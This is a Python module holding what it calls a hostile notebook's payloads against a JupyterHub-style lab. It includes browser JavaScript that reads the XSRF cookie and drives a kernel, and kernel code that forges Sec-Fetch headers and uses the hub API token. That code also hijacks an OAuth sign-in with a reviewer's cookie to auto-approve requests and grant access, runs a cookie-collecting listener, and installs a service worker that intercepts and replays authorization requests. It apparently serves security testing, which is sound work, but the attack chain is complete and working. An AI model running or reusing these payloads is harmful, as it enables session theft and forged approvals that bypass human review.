"""What a hostile notebook brings along: code for its kernel, for a lab page, and for a service worker."""

from __future__ import annotations

# A real kernel of the lab that this page belongs to, started and spoken to by JavaScript of the page; returns what it printed.
RUN_IN_A_KERNEL = r"""async code => {
    const base = location.pathname.match(/^\/user\/[^/]+/)[0];
    const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
    const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
    const start = async () => (await fetch(`${base}/api/kernels`, {method: 'POST', headers, body: '{}'})).json();
    const kernel = window.kernel = window.kernel || await start();
    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}${base}/api/kernels/${kernel.id}/channels`);
    await new Promise((done, failed) => { socket.onopen = done; socket.onerror = failed; });
    const id = [...crypto.getRandomValues(new Uint8Array(16))].join('-');  // also where the page is not on https
    const header = {msg_id: id, msg_type: 'execute_request', username: '', session: id, version: '5.3'};
    const content = {code, silent: false, store_history: false, allow_stdin: false};
    socket.send(JSON.stringify({header, parent_header: {}, metadata: {}, channel: 'shell', content, buffers: []}));
    let said = '';
    await new Promise(done => {
        socket.onmessage = event => {
            const message = JSON.parse(event.data);
            if (message.parent_header.msg_id !== id) return;
            if (message.msg_type === 'stream') said += message.content.text;
            if (message.msg_type === 'error') said += `${message.content.ename}: ${message.content.evalue}`;
            if (message.msg_type === 'status' && message.content.execution_state === 'idle') setTimeout(done, 200);
        };
    });
    socket.close();
    return said;
}"""

# After `PLACES` (origins, that of the pages first), `TARGETS` (what there is to grant: paths) and `PATH`. A client that is no browser says whatever it likes.
IN_THE_KERNEL = (
    """
import base64, hashlib, http.client, http.server, json, os, re, ssl, threading
import urllib.error, urllib.parse, urllib.request
FORGED = {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "none", "Sec-Fetch-User": "?1", "Accept": "text/html"}
FORM = "application/x-www-form-urlencoded"

def ask(place, method, path, headers=None, body=None):
    parts = urllib.parse.urlsplit(place)
    if parts.scheme == "https":
        wire = http.client.HTTPSConnection("127.0.0.1", parts.port, timeout=120, context=ssl._create_unverified_context())
    else:
        wire = http.client.HTTPConnection("127.0.0.1", parts.port, timeout=120)
    wire.request(method, path, body, {"Host": parts.netloc, **(headers or {})})
    answer = wire.getresponse()
    text = answer.read().decode("utf-8", "replace")
    cookies = [value.split(";")[0] for name, value in answer.getheaders() if name.lower() == "set-cookie"]
    wire.close()
    return answer.status, answer.getheader("Location") or "", cookies, text

def api(path, body=None, headers=None):
    token = {"Authorization": "token " + os.environ["JUPYTERHUB_API_TOKEN"], **(headers or {})}
    body = json.dumps(body).encode() if isinstance(body, dict) else body
    try:
        answer = urllib.request.urlopen(urllib.request.Request(os.environ["ENABLEMENT_SERVICE_URL"] + path, body, token), timeout=120)
        return [answer.status, answer.read().decode()]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode()]

def begin(place, target="decision"):
    status, location, cookies, text = ask(place, "GET", PATH + TARGETS[target], FORGED)
    found = re.search('data-code="([a-z-]+)"', text)
    return {"status": status, "location": location, "cookies": cookies, "code": found[1] if found else ""}

def opened(cookies):
    """
    '"""'
    r"""Every page that these cookies open: [place, target, text]."""
    '"""'
    r"""
    found = []
    for place in PLACES:
        for target, path in TARGETS.items():
            status, _, _, text = ask(place, "GET", PATH + path, {**FORGED, "Cookie": "; ".join(cookies)})
            if status == 200 and ('name="ticket"' in text or 'id="key"' in text):
                found.append([place, target, text])
    return found

def grant(cookies):
    """
    '"""'
    r"""Whatever can be granted with these cookies: what came of it."""
    '"""'
    r"""
    done = []
    for place, target, text in opened(cookies):
        if 'id="key"' in text:
            done.append("access")
            continue
        fields = dict(re.findall('<input type="hidden" name="([a-z_]+)" value="([^"]*)">', text))
        form = urllib.parse.urlencode({**fields, "verdict": "approve" if target == "decision" else "accept"})
        headers = {**FORGED, "Cookie": "; ".join(cookies), "Content-Type": FORM, "Origin": place}
        done.append("%s %d" % (target, ask(place, "POST", PATH + TARGETS[target], headers, form)[0]))
    return done

def redeem_and_grant(address, cookies):
    """
    '"""'
    r"""The whole of it: code to session, session to ticket, ticket to decision, answer and access."""
    '"""'
    r"""
    if "code=" not in address:
        return "no code"
    query = urllib.parse.urlsplit(address).query
    for place in PLACES:
        headers = {**FORGED, "Cookie": "; ".join(cookies)}
        _, _, gained, _ = ask(place, "GET", PATH + "/oauth_callback?" + query, headers)
        for tried in ([*cookies, *gained], gained):
            done = grant(tried)
            if done:
                return "granted " + " ".join(done)
    return "refused"

def with_tokens(more):
    answers = []
    for token in [os.environ["JUPYTERHUB_API_TOKEN"], *more]:
        for place in PLACES:
            for path in [*TARGETS.values(), "/confirmations/1", "/holds/1"]:
                for method, kind in (("GET", ""), ("POST", FORM), ("POST", "application/json")):
                    headers = {**FORGED, "Authorization": "token " + token, "Origin": PLACES[0]}
                    headers |= {"Content-Type": kind} if kind else {}
                    status, _, _, text = ask(place, method, PATH + path, headers, "verdict=approve" if kind else None)
                    answers.append([status, text])
            for path in ("/submissions/1/approve", "/submissions/1/decisions", "/package-requests/1/answer", "/holds/1"):
                headers = {"Authorization": "token " + token, "Content-Type": "application/json"}
                status, _, _, text = ask(place, "POST", PATH + "/api/v1" + path, headers, "{}")
                answers.append([status, text])
    return answers

def sign_in_with(cookie, decisions):
    """
    '"""'
    r"""A sign-in that the kernel begins and ends by itself, with the hub's cookie of the reviewer."""
    '"""'
    r"""
    verifier = "v" * 64
    challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).decode().rstrip("=")
    query = urllib.parse.urlencode({"client_id": "service-enablement", "redirect_uri": decisions + "oauth_callback", "response_type": "code",
        "state": "s" * 32, "code_challenge": challenge, "code_challenge_method": "S256"})
    status, location, _, _ = ask(PLACES[1], "GET", "/hub/api/oauth2/authorize?" + query, {**FORGED, "Cookie": cookie})
    return location if status == 302 else "refused %d" % status

class Listener(http.server.BaseHTTPRequestHandler):
    seen = []
    def do_GET(self):
        Listener.seen.append(self.headers.get("Cookie", ""))
        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
    def log_message(self, *_): pass

def listen():
    global LISTENING
    LISTENING = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Listener)
    threading.Thread(target=LISTENING.serve_forever, daemon=True).start()
    globals()["KEPT"] = Listener
    return {"port": LISTENING.server_port}

def heard():
    return list(KEPT.seen)
"""
)

# Stands between the browser and everything on its origin, and tells every page of it what it saw.
SERVICE_WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
const channel = new BroadcastChannel('worker');
self.addEventListener('fetch', event => {
    channel.postMessage('asked ' + event.request.url);
    if (!event.request.url.includes('oauth2/authorize')) return;
    event.respondWith((async () => {
        for (const redirect of ['follow', 'manual']) {
            try {
                const r = await fetch(event.request.url, {credentials: 'include', redirect});
                channel.postMessage(`${redirect} ${r.type} ${r.url} ${r.headers.get('location')}`);
            } catch (error) { channel.postMessage(`${redirect} ${error.name}`); }
        }
        return fetch(event.request);
    })());
});
"""
